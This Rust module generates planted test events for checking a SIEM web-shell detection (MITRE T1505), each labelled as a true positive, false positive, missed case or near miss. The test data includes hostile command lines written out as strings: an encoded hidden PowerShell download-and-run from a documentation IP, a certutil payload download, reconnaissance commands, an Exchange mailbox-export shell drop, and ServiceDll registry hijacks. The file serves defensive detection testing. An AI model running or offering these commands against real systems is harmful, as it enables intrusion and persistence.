//! Planted events: what the seed detection (T1505, three signals) should find, what it finds
//! although benign, what it misses, and near misses. Labels:
//!
//! - `tp:` attack behaviour the seed matches (true positives);
//! - `fp:` benign behaviour the seed matches (the false positives its notes anticipate, and
//!   the exclusions that cannot work because NG-SIEM's `FileName` on file events is the
//!   *written* file, not the writer);
//! - `fn:` attack behaviour the seed misses (its own validation tests among them: xp_cmdshell,
//!   Linux web shells, Exchange transport agents, the TermService ServiceDll);
//! - `nm:` near misses: values one step outside a regex (look-alike names, paths beside a web
//!   root, wrong extensions, wrong event type) that the seed must not match.
//!
//! Every value comes from the small fixed pools below and goes to one of the fixed hosts, so
//! the seed's groups (host × file × command line × parent × target × key × value) stay a few
//! dozen whatever the number of events.

use super::catalog::{Ev, User, CMD, PS};
use super::events::Gen;
use super::rng::Rng;

// Fixed hosts (`events::FIXED`).
const IIS: usize = 0;
const LWEB1: usize = 1;
const SQL: usize = 2;
const EXCH: usize = 3;
const LWEB2: usize = 4;
const APP: usize = 5;
const DEV: usize = 6;
const LTC: usize = 7;

/// One planted event.
#[derive(Debug)]
pub(crate) enum P {
    Proc {
        h: usize,
        ev: Ev,
        parent: &'static str,
        image: &'static str,
        cmd: &'static str,
        user: User,
    },
    File {
        h: usize,
        ev: Ev,
        actor: &'static str,
        target: &'static str,
    },
    Reg {
        h: usize,
        ev: Ev,
        actor: &'static str,
        key: &'static str,
        vname: &'static str,
        rtype: u8,
        val: &'static str,
    },
    Asep {
        h: usize,
        actor: &'static str,
        key: &'static str,
        vname: &'static str,
        val: &'static str,
        target: &'static str,
        class: u8,
    },
}

/// A planted kind: its label and the variants drawn from.
#[derive(Debug)]
pub(crate) struct Kind {
    pub(crate) label: &'static str,
    pub(crate) variants: &'static [P],
}

const fn pr(h: usize, parent: &'static str, image: &'static str, cmd: &'static str, user: User) -> P {
    P::Proc { h, ev: Ev::ProcessRollup2, parent, image, cmd, user }
}

const fn fw(h: usize, ev: Ev, actor: &'static str, target: &'static str) -> P {
    P::File { h, ev, actor, target }
}

const fn rg(h: usize, actor: &'static str, key: &'static str, vname: &'static str, rtype: u8, val: &'static str) -> P {
    P::Reg { h, ev: Ev::RegGenericValueUpdate, actor, key, vname, rtype, val }
}

use Ev::{NewExecutableWritten as NEW, NewScriptWritten as NSW, PeFileWritten as PFW};

const WHOAMI: &str = r"\Windows\System32\whoami.exe";
const W3SVC_PARAMS: &str = r"\REGISTRY\MACHINE\SYSTEM\CurrentControlSet\Services\W3SVC\Parameters";
const WAS_PARAMS: &str = r"\REGISTRY\MACHINE\SYSTEM\CurrentControlSet\Services\WAS\Parameters";

/// Every planted kind.
pub(crate) const KINDS: &[Kind] = &[
    // ---- Signal 1: web server parent, suspicious child (ProcessRollup2).
    Kind {
        label: "tp:webshell_child",
        variants: &[
            pr(IIS, "w3wp.exe", CMD, "cmd.exe /c whoami", User::AppPool),
            pr(
                IIS,
                "w3wp.exe",
                CMD,
                r#"cmd /c cd /d "C:\inetpub\wwwroot\aspnet_client\"&dir&echo [S]&cd&echo [E]"#,
                User::AppPool,
            ),
            pr(
                IIS,
                "w3wp.exe",
                PS,
                "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwAyADAAMwAuADAALgAxADEAMwAuADUAMAAvAGEAIAAtAFUAcwBlAEIAYQBzAGkAYwBQAGEAcgBzAGkAbgBnACkA",
                User::AppPool,
            ),
            pr(IIS, "w3wp.exe", WHOAMI, "whoami.exe /priv", User::AppPool),
            pr(
                IIS,
                "w3wp.exe",
                r"\Windows\System32\certutil.exe",
                r"certutil.exe -urlcache -split -f http://203.0.113.50/d.exe C:\Windows\Temp\d.exe",
                User::AppPool,
            ),
            pr(IIS, "w3wp.exe", r"\Windows\System32\net.exe", "net.exe user /domain", User::AppPool),
            pr(IIS, "w3wp.exe", r"\Windows\System32\nltest.exe", "nltest.exe /domain_trusts", User::AppPool),
            pr(IIS, "w3wp.exe", r"\Windows\System32\ipconfig.exe", "ipconfig /all", User::AppPool),
            pr(IIS, "w3wp.exe", r"\Windows\System32\systeminfo.exe", "systeminfo", User::AppPool),
        ],
    },
    Kind {
        label: "tp:exchange_webshell_child",
        variants: &[
            pr(EXCH, "w3wp.exe", CMD, r#"cmd.exe /c "whoami & hostname""#, User::System),
            pr(
                EXCH,
                "w3wp.exe",
                PS,
                r#"powershell.exe -ep bypass -c "New-MailboxExportRequest -Mailbox admin -FilePath \\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\a.aspx""#,
                User::System,
            ),
        ],
    },
    Kind {
        label: "tp:appserver_webshell_child",
        variants: &[
            pr(APP, "Tomcat9.exe", CMD, "cmd.exe /c whoami", User::LocalSvc),
            pr(APP, "java.exe", CMD, r#"cmd.exe /c "net localgroup administrators""#, User::LocalSvc),
            pr(APP, "httpd.exe", CMD, r"cmd.exe /c type C:\xampp\htdocs\config.php", User::System),
        ],
    },
    Kind {
        label: "tp:case_variant_parent",
        variants: &[
            pr(IIS, "W3WP.EXE", CMD, "cmd.exe /c whoami", User::AppPool),
            pr(IIS, "W3wp.exe", WHOAMI, "whoami /groups", User::AppPool),
        ],
    },
    Kind {
        label: "tp:case_variant_child",
        variants: &[
            pr(IIS, "w3wp.exe", r"\Windows\System32\CMD.EXE", "CMD.EXE /c ver", User::AppPool),
            pr(
                IIS,
                "w3wp.exe",
                r"\Windows\System32\WindowsPowerShell\v1.0\PowerShell.EXE",
                "PowerShell.EXE -c Get-Process",
                User::AppPool,
            ),
        ],
    },
    Kind {
        label: "fp:dev_tool_child",
        variants: &[
            pr(DEV, "node.exe", CMD, r#"C:\WINDOWS\system32\cmd.exe /d /s /c "npm run build""#, User::Interactive),
            pr(DEV, "node.exe", CMD, r#"C:\WINDOWS\system32\cmd.exe /d /s /c "git rev-parse HEAD""#, User::Interactive),
            pr(DEV, "python.exe", CMD, "cmd.exe /c pip list", User::Interactive),
        ],
    },
    Kind {
        label: "nm:lookalike_parent",
        variants: &[
            pr(IIS, "w3wpx.exe", CMD, "cmd.exe /c whoami", User::AppPool),
            pr(APP, "tomcat9w.exe", CMD, "cmd.exe /c whoami", User::LocalSvc),
            pr(APP, "javaw.exe", CMD, "cmd.exe /c whoami", User::LocalSvc),
            pr(DEV, "pythonw.exe", CMD, "cmd.exe /c whoami", User::Interactive),
        ],
    },
    Kind {
        label: "nm:lookalike_child",
        variants: &[
            pr(IIS, "w3wp.exe", r"\Users\Public\cmd2.exe", "cmd2.exe /c whoami", User::AppPool),
            pr(IIS, "w3wp.exe", r"\Windows\Temp\mycmd.exe", "mycmd.exe /c whoami", User::AppPool),
            pr(
                IIS,
                "w3wp.exe",
                r"\Windows\System32\WindowsPowerShell\v1.0\powershell_ise.exe",
                "powershell_ise.exe",
                User::AppPool,
            ),
        ],
    },
    Kind {
        label: "nm:synthetic_pr2",
        variants: &[P::Proc {
            h: IIS,
            ev: Ev::SyntheticProcessRollup2,
            parent: "w3wp.exe",
            image: CMD,
            cmd: "cmd.exe /c whoami",
            user: User::AppPool,
        }],
    },
    Kind {
        label: "fn:sqlservr_xp_cmdshell",
        variants: &[
            pr(SQL, "sqlservr.exe", CMD, "cmd.exe /c whoami /all", User::Sql),
            pr(SQL, "sqlservr.exe", CMD, "cmd.exe /c ipconfig /all", User::Sql),
        ],
    },
    Kind {
        label: "fn:linux_webshell_child",
        variants: &[
            pr(LWEB1, "apache2", "/usr/bin/dash", "/bin/sh -c id", User::WwwData),
            pr(LWEB1, "apache2", "/usr/bin/dash", r#"sh -c "cat /etc/passwd""#, User::WwwData),
            pr(LWEB2, "php-fpm8.1", "/usr/bin/dash", "sh -c uname -a", User::WwwData),
            pr(LTC, "java", "/usr/bin/bash", "/bin/bash -c whoami", User::Tomcat),
        ],
    },
    Kind {
        label: "fn:exchange_transport_agent",
        variants: &[
            pr(
                EXCH,
                "explorer.exe",
                PS,
                r#"powershell.exe -NonInteractive -Command "Install-TransportAgent -Name 'ArgusTestAgent' -TransportAgentFactory 'Argus.TestAgentFactory' -AssemblyPath 'C:\ProgramData\Argus\TestAgent.dll'""#,
                User::Interactive,
            ),
            pr(
                EXCH,
                "explorer.exe",
                PS,
                r#"powershell.exe -NonInteractive -Command "Enable-TransportAgent -Identity 'ArgusTestAgent'""#,
                User::Interactive,
            ),
        ],
    },
    Kind {
        label: "fn:exchange_transport_reg",
        variants: &[rg(
            EXCH,
            "powershell.exe",
            r"\REGISTRY\MACHINE\SYSTEM\CurrentControlSet\Services\MSExchangeTransport\Parameters",
            "ArgusTestAgent",
            1,
            r"C:\ProgramData\Argus\TestAgent.dll",
        )],
    },
    Kind {
        label: "fn:termservice_servicedll",
        variants: &[
            P::Asep {
                h: APP,
                actor: "reg.exe",
                key: r"\REGISTRY\MACHINE\SYSTEM\ControlSet001\Services\TermService\Parameters",
                vname: "ServiceDll",
                val: r"C:\Users\admin\AtomicTest.dll",
                target: r"\Users\admin\AtomicTest.dll",
                class: 21,
            },
            rg(
                APP,
                "reg.exe",
                r"\REGISTRY\MACHINE\SYSTEM\CurrentControlSet\Services\TermService\Parameters",
                "ServiceDll",
                2,
                r"C:\Users\admin\AtomicTest.dll",
            ),
        ],
    },
    Kind {
        label: "fn:iis_appcmd_install",
        variants: &[pr(
            IIS,
            "cmd.exe",
            r"\Windows\System32\inetsrv\appcmd.exe",
            r"C:\Windows\system32\inetsrv\appcmd.exe install module /name:ArgusTestModule /image:C:\Windows\Temp\version.dll",
            User::Interactive,
        )],
    },
    // ---- Signal 2: web file written under a web root (NewExecutableWritten, NewScriptWritten,
    // PeFileWritten).
    Kind {
        label: "tp:webshell_file",
        variants: &[
            fw(IIS, NSW, "w3wp.exe", r"\inetpub\wwwroot\aspnet_client\system_web\shell.aspx"),
            fw(IIS, NSW, "powershell.exe", r"\inetpub\wwwroot\argus_test_shell.aspx"),
            fw(IIS, NSW, "w3wp.exe", r"\inetpub\wwwroot\App_Data\help.ashx"),
            fw(IIS, NEW, "w3wp.exe", r"\inetpub\wwwroot\uploads\img.asp"),
            fw(IIS, NSW, "cmd.exe", r"\inetpub\wwwroot\bin\service.asmx"),
        ],
    },
    Kind {
        label: "tp:webshell_file_linux",
        variants: &[
            fw(LWEB1, NSW, "apache2", "/var/www/html/argus_test.php"),
            fw(LWEB1, NSW, "apache2", "/var/www/html/wp-content/uploads/2025/07/cache.phtml"),
            fw(LWEB2, NSW, "php-fpm8.1", "/usr/share/nginx/html/cmd.php"),
            fw(LWEB2, NEW, "curl", "/srv/www/htdocs/s.php"),
        ],
    },
    Kind {
        label: "tp:webshell_file_appserver",
        variants: &[
            fw(APP, NSW, "Tomcat9.exe", r"\Program Files\Apache Software Foundation\Tomcat 9.0\webapps\ROOT\cmd.jsp"),
            fw(APP, NSW, "Tomcat9.exe", r"\Program Files\Apache Software Foundation\Tomcat 9.0\webapps\manager\status.jspx"),
            fw(APP, NSW, "httpd.exe", r"\xampp\htdocs\dashboard\shell.php"),
        ],
    },
    Kind { label: "tp:webfile_inetpub_logs", variants: &[fw(IIS, NSW, "cmd.exe", r"\inetpub\logs\LogFiles\W3SVC1\x.aspx")] },
    Kind {
        label: "tp:case_variant_file",
        variants: &[
            fw(IIS, NSW, "w3wp.exe", r"\INETPUB\WWWROOT\Shell.ASPX"),
            fw(IIS, NSW, "w3wp.exe", r"\inetpub\WWWRoot\aspnet_client\Err.AsPx"),
        ],
    },
    Kind { label: "tp:webshell_pe_written", variants: &[fw(IIS, PFW, "w3wp.exe", r"\inetpub\wwwroot\uploads\avatar.asp")] },
    Kind {
        label: "fp:webfile_excluded_writer",
        variants: &[
            fw(IIS, NSW, "msiexec.exe", r"\inetpub\wwwroot\App\Default.aspx"),
            fw(IIS, NSW, "w3wp.exe", r"\inetpub\wwwroot\sitecore\admin\upgrade.aspx"),
        ],
    },
    Kind {
        label: "fp:deploy_webfile",
        variants: &[
            fw(LWEB1, NSW, "git", "/var/www/html/index.php"),
            fw(IIS, NSW, "msdeploy.exe", r"\inetpub\wwwroot\Default.aspx"),
        ],
    },
    Kind {
        label: "nm:outside_webroot",
        variants: &[
            fw(IIS, NSW, "w3wp.exe", r"\inetpubx\site\shell.aspx"),
            fw(LWEB1, NSW, "apache2", "/var/wwwdata/shell.php"),
            fw(LWEB2, NSW, "php-fpm8.1", "/srv/web/shell.php"),
            fw(DEV, NSW, "devenv.exe", r"\Users\Public\source\repos\WebApp\Default.aspx"),
            fw(LWEB1, NSW, "bash", "/home/deploy/www/x.php"),
        ],
    },
    Kind {
        label: "nm:wrong_extension",
        variants: &[
            fw(IIS, NSW, "w3wp.exe", r"\inetpub\wwwroot\shell.aspx.bak"),
            fw(IIS, NSW, "cmd.exe", r"\inetpub\wwwroot\aspnet_client\x.aspx.txt"),
            fw(IIS, NSW, "w3wp.exe", r"\inetpub\wwwroot\web.config"),
            fw(LWEB1, NSW, "apache2", "/var/www/html/x.phps"),
            fw(LWEB1, NSW, "apache2", "/var/www/html/up.php5"),
            fw(LWEB2, NSW, "php-fpm8.1", "/var/www/html/avatar.php.jpg"),
        ],
    },
    Kind {
        label: "nm:excluded_filename",
        variants: &[
            fw(IIS, NEW, "msiexec.exe", r"\inetpub\wwwroot\bin\setup.exe"),
            fw(IIS, NEW, "cmd.exe", r"\inetpub\wwwroot\aspnet_client\msiexec.exe"),
        ],
    },
    Kind {
        label: "fn:exchange_owa_webshell",
        variants: &[
            fw(EXCH, NSW, "w3wp.exe", r"\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\errorFE2.aspx"),
            fw(
                EXCH,
                NSW,
                "w3wp.exe",
                r"\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\ecp\auth\TimeoutLogoff.aspx",
            ),
        ],
    },
    Kind {
        label: "fn:linux_tomcat_jsp",
        variants: &[
            fw(LTC, NSW, "java", "/opt/tomcat/webapps/ROOT/cmd.jsp"),
            fw(LTC, NSW, "java", "/var/lib/tomcat9/webapps/ROOT/shell.jsp"),
        ],
    },
    Kind {
        label: "fn:webscript_event",
        variants: &[fw(IIS, Ev::WebScriptFileWritten, "w3wp.exe", r"\inetpub\wwwroot\aspnet_client\x.aspx")],
    },
    // ---- Signal 3: IIS module DLL registered (RegGenericValueUpdate, RegKeyCreate).
    Kind {
        label: "tp:iis_module_registered",
        variants: &[
            rg(IIS, "appcmd.exe", W3SVC_PARAMS, "ArgusTestModule", 2, r"C:\Windows\System32\inetsrv\ArgusTestModule.dll"),
            rg(
                IIS,
                "powershell.exe",
                r"\REGISTRY\MACHINE\SOFTWARE\Microsoft\InetStp\Components",
                "ArgusModule",
                1,
                r"%windir%\system32\inetsrv\version.dll",
            ),
            rg(IIS, "reg.exe", WAS_PARAMS, "ServiceDll", 2, r"C:\ProgramData\was\iisw3adm.dll"),
        ],
    },
    Kind {
        label: "fp:iis_servicedll_legit",
        variants: &[
            rg(IIS, "TrustedInstaller.exe", WAS_PARAMS, "ServiceDll", 2, r"%windir%\system32\inetsrv\iisw3adm.dll"),
            rg(IIS, "TrustedInstaller.exe", W3SVC_PARAMS, "ServiceDll", 2, r"%windir%\system32\inetsrv\iisw3adm.dll"),
        ],
    },
    Kind {
        label: "tp:iis_module_regkeycreate",
        variants: &[P::Reg {
            h: IIS,
            ev: Ev::RegKeyCreate,
            actor: "appcmd.exe",
            key: r"\REGISTRY\MACHINE\SYSTEM\CurrentControlSet\Services\W3SVC\Modules\ArgusTestModule",
            vname: "Image",
            rtype: 1,
            val: r"C:\inetpub\temp\ArgusTestModule.dll",
        }],
    },
    Kind {
        label: "tp:case_variant_reg",
        variants: &[rg(
            IIS,
            "reg.exe",
            r"\REGISTRY\MACHINE\system\currentcontrolset\services\w3svc\Parameters",
            "Module",
            1,
            r"C:\WINDOWS\TEMP\EVIL.DLL",
        )],
    },
    Kind {
        label: "nm:iis_value_not_dll",
        variants: &[
            rg(
                IIS,
                "TrustedInstaller.exe",
                r"\REGISTRY\MACHINE\SYSTEM\CurrentControlSet\Services\W3SVC",
                "DisplayName",
                1,
                r"@%windir%\system32\inetsrv\iisres.dll,-30003",
            ),
            rg(IIS, "reg.exe", W3SVC_PARAMS, "ArgusTestModule", 1, r"C:\inetpub\temp\module.dll.bak"),
            rg(IIS, "reg.exe", W3SVC_PARAMS, "Modules", 7, "C:\\Windows\\System32\\inetsrv\\x.dll\0\0"),
        ],
    },
    Kind {
        label: "nm:other_service_key",
        variants: &[
            rg(
                IIS,
                "TrustedInstaller.exe",
                r"\REGISTRY\MACHINE\SYSTEM\CurrentControlSet\Services\W3LOGSVC\Parameters",
                "ServiceDll",
                2,
                r"%windir%\system32\inetsrv\w3logsvc.dll",
            ),
            rg(
                IIS,
                "InetMgr.exe",
                r"\REGISTRY\MACHINE\SOFTWARE\Microsoft\InetMgr\Parameters",
                "ModulePath",
                1,
                r"C:\Windows\System32\inetsrv\Microsoft.Web.Management.dll",
            ),
        ],
    },
    Kind {
        label: "fn:iis_module_asep_event",
        variants: &[P::Asep {
            h: IIS,
            actor: "appcmd.exe",
            key: W3SVC_PARAMS,
            vname: "ServiceDll",
            val: r"C:\ProgramData\iis\evil.dll",
            target: r"\ProgramData\iis\evil.dll",
            class: 7,
        }],
    },
    Kind {
        label: "fn:iis_module_controlset001",
        variants: &[rg(
            IIS,
            "appcmd.exe",
            r"\REGISTRY\MACHINE\SYSTEM\ControlSet001\Services\W3SVC\Parameters",
            "ArgusTestModule",
            2,
            r"C:\Windows\System32\inetsrv\ArgusTestModule.dll",
        )],
    },
];

/// Writes one event of planted kind `k`.
pub(crate) fn plant(g: &mut Gen, k: usize) {
    let v = g.draw(KINDS[k].variants.len() as u32) as usize;
    plant_variant(g, k, v);
}

/// Writes variant `v` of planted kind `k`.
pub(crate) fn plant_variant(g: &mut Gen, k: usize, v: usize) {
    match KINDS[k].variants[v] {
        P::Proc { h, ev, parent, image, cmd, user } => g.process(h, ev, parent, image, cmd, user),
        P::File { h, ev, actor, target } => g.file(h, ev, actor, target),
        P::Reg { h, ev, actor, key, vname, rtype, val } => g.reg_value(h, ev, actor, key, vname, rtype, val),
        P::Asep { h, actor, key, vname, val, target, class } => {
            g.asep_value(h, actor, key, vname, 2, val, target, class)
        }
    }
}

/// Which lines carry planted events: `max(kinds, events / 1000)` of them (all lines when the
/// file is smaller), one per equal slice of the file at a random offset inside it; the first
/// `kinds` slots hold each kind once (in shuffled order), later ones a random kind.
#[derive(Debug)]
pub(crate) struct Schedule {
    n: u64,
    total: u64,
    slot: u64,
    next: u64,
    order: Vec<usize>,
    rng: Rng,
}

impl Schedule {
    pub(crate) fn new(n: u64, seed: u64) -> Schedule {
        let k = KINDS.len() as u64;
        let total = (n / 1000).max(k).min(n);
        let mut rng = Rng::new(seed, 2);
        let mut order: Vec<usize> = (0..KINDS.len()).collect();
        for i in (1..order.len()).rev() {
            let j = rng.below(i as u32 + 1) as usize;
            order.swap(i, j);
        }
        let mut s = Schedule { n, total, slot: 0, next: u64::MAX, order, rng };
        s.next = s.position(0);
        s
    }

    fn bound(&self, j: u64) -> u64 {
        (u128::from(j) * u128::from(self.n) / u128::from(self.total.max(1))) as u64
    }

    fn position(&mut self, j: u64) -> u64 {
        if j >= self.total {
            return u64::MAX;
        }
        let lo = self.bound(j);
        let hi = self.bound(j + 1);
        lo + self.rng.below64(hi - lo)
    }

    /// The planted kind for line `i` (lines asked in increasing order), if any.
    pub(crate) fn at(&mut self, i: u64) -> Option<usize> {
        if i != self.next {
            return None;
        }
        let j = self.slot;
        let kind = if (j as usize) < self.order.len() {
            self.order[j as usize]
        } else {
            self.rng.below(self.order.len() as u32) as usize
        };
        self.slot += 1;
        self.next = self.position(self.slot);
        Some(kind)
    }
}
